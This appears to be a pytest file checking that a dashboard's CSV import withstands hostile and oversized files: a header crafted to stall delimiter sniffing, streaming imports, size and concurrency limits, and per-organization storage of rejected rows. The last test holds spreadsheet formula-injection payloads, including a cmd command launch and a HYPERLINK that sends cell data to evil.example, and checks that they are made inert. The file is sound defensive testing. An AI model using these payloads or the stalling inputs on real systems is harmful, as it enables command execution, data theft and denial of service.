"""The dashboard import against hostile and large files (issue 15, findings 2 and 3): linear
delimiter detection, a size limit checked before parsing, rows streamed in batches, rejected rows
kept server-side for their organization only, and a bound on imports at once.
"""

from __future__ import annotations

import csv
import io
import re
import stat
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx

from tests.conftest import contact
from tests.web.attack import MiB, RawAnswer, Watch, figure_line, multipart, post_raw
from tests.web.conftest import Dashboard, Launch

HEADER = ["Phone", "First Name", "Surname", "Notes"]
NOTES = "n" * 200  # an ignored column, so that a few MiB are not millions of rows


def _upload(dashboard: Dashboard, name: str, body: bytes) -> httpx.Response:
    return dashboard.post("/import", {}, files={"file": (name, body, "text/csv")})


def _rejected_link(page: str) -> str:
    found = re.search(r'href="(/import/rejected/[^"]+)"', page)
    assert found, page[-3000:]
    return found.group(1)


def _summary(page: str) -> dict[str, int]:
    return {
        name: int(value) for name, value in re.findall(r'<dd id="summary-(\w+)">(\d+)</dd>', page)
    }


class HealthWatch:
    """/healthz asked again and again from a thread of its own; the slowest answer's seconds."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.latencies: list[float] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with httpx.Client(base_url=self.url, timeout=30) as client:
            while not self._stop.is_set():
                started = time.perf_counter()
                client.get("/healthz").raise_for_status()
                self.latencies.append(time.perf_counter() - started)
                self._stop.wait(0.01)

    def __enter__(self) -> HealthWatch:
        self._thread.start()
        while not self.latencies:  # the first answer, before the attack starts
            self._thread.join(0.01)
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        self._thread.join()


def test_a_header_crafted_against_delimiter_sniffing_is_read_at_once(
    dashboard: Dashboard,
) -> None:
    # csv.Sniffer took 14 s of the GIL over this 64 KiB header: /healthz went unanswered.
    crafted = (',"a' * (64 * 1024 // 3)).encode() + b"\n"
    with HealthWatch(dashboard.org.server.url) as health:
        started = time.perf_counter()
        answer = _upload(dashboard, "crafted.csv", crafted)
        seconds = time.perf_counter() - started
    assert answer.status_code == 400
    assert "no column for phone_no" in answer.text
    slowest = max(health.latencies)
    assert slowest < 1.0, health.latencies  # frozen, not slow: the figure is printed below
    figure_line(
        "sniffing", upload_ms=round(seconds * 1000), healthz_max_ms=round(slowest * 1000, 1),
        healthz_answers=len(health.latencies),
    )  # fmt: skip


def _large_csv(path: Path, target_bytes: int) -> dict[str, int]:
    """Rows until the file reaches `target_bytes`: 1 in 50 valid, and of those 1 in 10 repeating
    the number before it (in the same batch) or one many batches back; the rest rejected."""
    expected = {"added": 0, "duplicates": 0, "rejected": 0}
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(HEADER)
        number = 0
        while file.tell() < target_bytes:
            number += 1
            if number % 50:
                writer.writerow(["", f"First{number}", "Last", NOTES])
                expected["rejected"] += 1
                continue
            valid = number // 50
            if valid % 10 == 3:  # the number of the valid row before it, 50 lines back
                phone = f"+91 93{valid - 1:08d}"
                expected["duplicates"] += 1
            elif valid % 10 == 7 and valid > 1007:  # a number added many batches back
                phone = f"+91 93{valid - 1007:08d}"
                expected["duplicates"] += 1
            else:
                phone = f"+91 93{valid:08d}"
                expected["added"] += 1
            writer.writerow([phone, f"First{number}", "Last", NOTES])
    return expected


def test_a_large_import_streams_in_bounded_memory_and_keeps_every_rejected_row(
    launch: Launch, tmp_path: Path
) -> None:
    own = launch()
    user = Dashboard(own.new_org()).login()
    # Warm up: the first import loads the phone metadata and templates.
    assert _upload(user, "warm.csv", b"Phone,First Name,Surname\n+919200000001,A,B\n").is_success

    source = tmp_path / "large.csv"
    expected = _large_csv(source, 32 * MiB)
    with Watch(own.pid, own.temp_dir) as watch:
        started = time.perf_counter()
        with source.open("rb") as file:
            answer = user.http.post(
                "/import", data={"csrf_token": user.csrf}, files={"file": ("large.csv", file)},
                timeout=300,
            )  # fmt: skip
        seconds = time.perf_counter() - started
    assert answer.status_code == 200, answer.text[-2000:]
    page = answer.text
    assert _summary(page) == expected
    rows = sum(expected.values())
    assert f"{rows:,} of {rows:,} rows" in page
    # The page: the first 100 rejected rows, and how many more there are.
    assert page.count("<tr><td>") == 100
    assert f"and {expected['rejected'] - 100:,} more" in page
    assert len(answer.content) < 128 * 1024
    assert watch.rss_growth < 32 * MiB, watch.rss_growth

    link = _rejected_link(page)
    download = user.http.get(link, timeout=120)
    assert download.status_code == 200
    assert "attachment" in download.headers["content-disposition"]
    lines = list(csv.reader(io.StringIO(download.text)))
    assert lines[0] == ["line", "reason", *HEADER]
    assert len(lines) == 1 + expected["rejected"]
    assert lines[1] == ["2", "phone_no: must not be empty", "", "First1", "Last", NOTES]
    numbers = [int(line[0]) for line in lines[1:]]
    assert numbers == sorted(numbers)

    # Kept for this organization only, and readable by the server's user only.
    other = Dashboard(own.new_org()).login()
    assert other.http.get(link).status_code == 404
    assert httpx.get(own.server.url + link).status_code == 404
    kept = [path for path in own.temp_dir.rglob("*") if path.is_file()]
    assert len(kept) == 1
    assert stat.S_IMODE(kept[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(kept[0].parent.stat().st_mode) == 0o700
    figure_line(
        "large-import", file_mib=round(source.stat().st_size / MiB, 1), rows=rows,
        seconds=round(seconds, 1), rss_growth_mib=round(watch.rss_growth / MiB, 1),
        temp_peak_mib=round(watch.temp_peak / MiB, 1),
        page_kib=round(len(answer.content) / 1024, 1),
        rejected_download_mib=round(len(download.content) / MiB, 1),
    )  # fmt: skip


def _session_headers(user: Dashboard) -> list[tuple[str, str]]:
    cookies = "; ".join(f"{name}={value}" for name, value in user.http.cookies.items())
    return [("Cookie", cookies)]


def _import_body(user: Dashboard, boundary: str, content: bytes) -> bytes:
    return multipart(
        boundary, [("csrf_token", None, user.csrf.encode()), ("file", "a.csv", content)]
    )


def test_an_upload_over_the_limit_is_refused_before_it_reaches_the_disk(launch: Launch) -> None:
    own = launch()
    user = Dashboard(own.new_org()).login()
    boundary = "b0undary"
    headers = [
        *_session_headers(user),
        ("Content-Type", f"multipart/form-data; boundary={boundary}"),
    ]
    start = _import_body(user, boundary, b"")[: -len(f"\r\n--{boundary}--\r\n")]
    over = 50 * MiB + MiB

    def body() -> Iterator[bytes]:
        yield start
        for _ in range(over // MiB):
            yield b"+919200000001,A,B\n" * (MiB // 18)

    figures = {}
    declared = [*headers, ("Content-Length", str(len(start) + (over // MiB) * (MiB // 18) * 18))]
    for name, sent_headers in (("declared", declared), ("chunked", headers)):
        with Watch(own.pid, own.temp_dir) as watch:
            answer = post_raw(own.server.url, "/import", sent_headers, body())
        assert answer.status_code == 413, answer.text
        assert "50 MiB" in answer.text
        figures[f"{name}_temp_peak_mib"] = round(watch.temp_peak / MiB, 1)
        figures[f"{name}_rss_growth_mib"] = round(watch.rss_growth / MiB, 1)
        if name == "declared":
            # Refused on its Content-Length: not a byte of it was kept.
            assert watch.temp_peak < MiB, watch.temp_peak
        else:
            # Counted as it came: never more than the limit, and nothing left after.
            assert watch.temp_peak <= 50 * MiB + MiB, watch.temp_peak
        assert watch.rss_growth < 16 * MiB
    assert user.org.get().json()["count"] == 0
    assert [path for path in own.temp_dir.rglob("*") if path.is_file()] == []
    figure_line("import-over-limit", upload_mib=round(over / MiB), **figures)


def test_imports_beyond_the_limit_at_once_get_503_until_one_ends(launch: Launch) -> None:
    own = launch(CONTACTHUB_MAX_CONCURRENT_IMPORTS="1")
    user = Dashboard(own.new_org()).login()
    boundary = "b0undary"
    # Blank rows (skipped) ahead of the one contact: more than the sockets between us buffer,
    # so that once they are sent the server is reading the upload, its place taken.
    padding = (b" " * 1023 + b"\n") * (12 * 1024)
    content = b"Phone,First Name,Surname\n" + padding + b"+919200000001,A,B\n"
    body = _import_body(user, boundary, content)
    cut = len(body) - 100
    headers = [
        *_session_headers(user),
        ("Content-Type", f"multipart/form-data; boundary={boundary}"),
        ("Content-Length", str(len(body))),
    ]
    reading, go_on = threading.Event(), threading.Event()
    answers: list[RawAnswer | None] = []

    def slow_upload(abandon: bool) -> Iterator[bytes]:
        yield body[:cut]
        reading.set()
        assert go_on.wait(30)
        if abandon:
            raise ConnectionAbortedError("the browser tab was closed")
        yield body[cut:]

    def upload(abandon: bool) -> None:
        # The place of the import before is given back just after its page's last byte: the
        # server may still be doing so when this one comes, and answer 503. Then it comes again.
        deadline = time.monotonic() + 30
        while True:
            try:
                answer = post_raw(own.server.url, "/import", headers, slow_upload(abandon))
            except ConnectionAbortedError:
                answers.append(None)
                return
            if answer.status_code != 503 or reading.is_set() or time.monotonic() > deadline:
                answers.append(answer)
                return

    for abandon in (False, True):
        reading.clear()
        go_on.clear()
        first = threading.Thread(target=upload, args=(abandon,))
        first.start()
        assert reading.wait(30)
        refused = _upload(user, "b.csv", b"Phone,First Name,Surname\n+919200000002,B,C\n")
        assert refused.status_code == 503
        assert int(refused.headers["retry-after"]) > 0
        assert "Other imports are running" in refused.text
        go_on.set()
        first.join(60)
    finished, abandoned = answers
    assert finished is not None
    assert finished.status_code == 200, finished.text
    assert _summary(finished.text)["added"] == 1
    assert abandoned is None
    # The abandoned upload gives its place back as soon as the server sees it gone.
    deadline = time.monotonic() + 30
    while True:
        answer = _upload(user, "c.csv", b"Phone,First Name,Surname\n+919200000003,C,D\n")
        if answer.status_code != 503 or time.monotonic() > deadline:
            break
    assert answer.status_code == 200
    assert [c["phone_no"] for c in user.contacts()] == ["919200000001", "919200000003"]


def test_rejected_rows_are_downloaded_with_formulas_made_inert(dashboard: Dashboard) -> None:
    dashboard.org.add([contact("+919200000001")])
    rows = [
        ["Phone", "First Name", "Surname", "=cmd|' /C calc'!A0"],
        ["not a phone", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "Rao", "x"],
        ["+91 92000", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "-2+3"],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    answer = _upload(dashboard, "hostile.csv", out.getvalue().encode())
    assert answer.status_code == 200
    download = dashboard.http.get(_rejected_link(answer.text))
    lines = list(csv.reader(io.StringIO(download.text)))
    assert lines[0][-1] == "'=cmd|' /C calc'!A0"
    assert lines[1][2:] == [
        "not a phone",
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "Rao",
        "x",
    ]
    # A phone-like value is no formula, and is kept as typed so that it can be imported again.
    assert lines[2][2:] == ["+91 92000", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTabbed", "-2+3"]
